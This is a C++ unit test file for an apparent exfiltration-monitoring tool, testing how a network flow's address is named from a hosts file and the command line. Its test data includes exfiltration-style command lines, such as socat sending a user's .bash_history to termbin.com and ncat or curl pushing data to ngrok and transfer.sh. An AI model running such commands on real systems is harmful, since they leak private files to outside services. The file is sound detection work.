// Tests enrich/hosts.cpp: which name a hosts file gives a flow's address.
#include <doctest/doctest.h>

#include "enrich/hosts.hpp"

using namespace exfilwatch::enrich;

namespace {

// Debian's default hosts file, then what a test's private view or a container adds.
const std::string debian = "127.0.0.1\tlocalhost\n127.0.1.1\tbuildhost\n\n"
                           "# The following lines are desirable for IPv6 capable hosts\n"
                           "::1     localhost ip6-localhost ip6-loopback\n"
                           "ff02::1 ip6-allnodes\nff02::2 ip6-allrouters\n";

}  // namespace

TEST_CASE("hosts_name: the name on the command line wins among the names of an address")
{
    auto text = debian + "127.0.0.1 paste.rs\n127.0.0.1 abc.ngrok-free.app transfer.sh\n";
    CHECK(hosts_name(text, "127.0.0.1", {"nc", "abc.ngrok-free.app", "8443"}) == "abc.ngrok-free.app");
    CHECK(hosts_name(text, "127.0.0.1", {"curl", "https://Transfer.sh:8443/up"}) == "transfer.sh");
    CHECK(hosts_name(text, "127.0.0.1", {"socat", "-", "TCP:paste.rs:8443"}) == "paste.rs");
    CHECK(hosts_name(text, "127.0.0.1", {"ssh", "git@paste.rs"}) == "paste.rs");
    // Not a whole host token: "xpaste.rs" and "paste.rsync" do not name paste.rs.
    CHECK(hosts_name(text, "127.0.0.1", {"nc", "xpaste.rs.example", "1"}) == "paste.rs");
    // No name on the command line (python script.py): the first name that is not a loopback alias.
    CHECK(hosts_name(text, "127.0.0.1", {"python3", "u.py"}) == "paste.rs");
}

TEST_CASE("hosts_name: addresses compare as addresses, loopback aliases alone name nothing")
{
    CHECK(hosts_name(debian, "127.0.0.1", {"nc", "localhost", "80"}) == "localhost");
    CHECK(hosts_name(debian, "127.0.0.1", {"nc", "127.0.0.1", "80"}).empty());
    CHECK(hosts_name(debian, "::1", {}).empty());
    CHECK(hosts_name(debian, "127.0.1.1", {}) == "buildhost");
    auto text = "0:0:0:0:0:0:0:1 v6.example\n10.1.2.3 db.internal db # primary\n";
    CHECK(hosts_name(text, "::1", {}) == "v6.example");
    CHECK(hosts_name(text, "10.1.2.3", {"psql", "-h", "db"}) == "db");
    CHECK(hosts_name(text, "10.1.2.4", {}).empty());
    CHECK(hosts_name(text, "not-an-ip", {}).empty());
    CHECK(hosts_name("", "10.1.2.3", {}).empty());
    // Comments, junk lines and names with odd bytes are skipped, not fatal.
    CHECK(hosts_name("# 10.1.2.3 a.b\n10.1.2.3\n10.1.2.3 bad/name ok.name\n", "10.1.2.3", {}) == "ok.name");
}

TEST_CASE("hosts_name: only the first 64 KiB of a hosts file count")
{
    std::string text(hosts_file_max, '#');
    text += "\n10.9.9.9 late.example\n";
    CHECK(hosts_name(text, "10.9.9.9", {}).empty());
}

TEST_CASE("argv_name: the host a command line aims at the flow's port")
{
    CHECK(argv_name({"ncat", "--send-only", "abc.ngrok-free.app", "9009"}, 9009) == "abc.ngrok-free.app");
    CHECK(argv_name({"ncat", "--send-only", "abc.ngrok-free.app", "9009"}, 9010).empty());
    CHECK(argv_name({"socat", "-u", "FILE:/home/a/.bash_history", "TCP:Termbin.com:9999"}, 9999) == "termbin.com");
    CHECK(argv_name({"socat", "-", "OPENSSL:paste.rs:443,verify=0"}, 443) == "paste.rs");
    CHECK(argv_name({"curl", "https://u:p@transfer.sh/x"}, 443) == "transfer.sh");
    CHECK(argv_name({"curl", "http://transfer.sh:8080/x"}, 8080) == "transfer.sh");
    CHECK(argv_name({"curl", "http://transfer.sh/x"}, 443).empty());
    CHECK(argv_name({"ssh", "git@github.com"}, 22) == "github.com");
    // Files and numbers are not hosts.
    CHECK(argv_name({"python3", "u.py"}, 443).empty());
    CHECK(argv_name({"nc", "10.0.0.1", "80"}, 80).empty());
    CHECK(argv_name({"nc", "host.123", "80"}, 80).empty());
    CHECK(argv_name({"tar", "czf", "a.tgz", "dir"}, 80).empty());
    CHECK(argv_name({}, 80).empty());
}
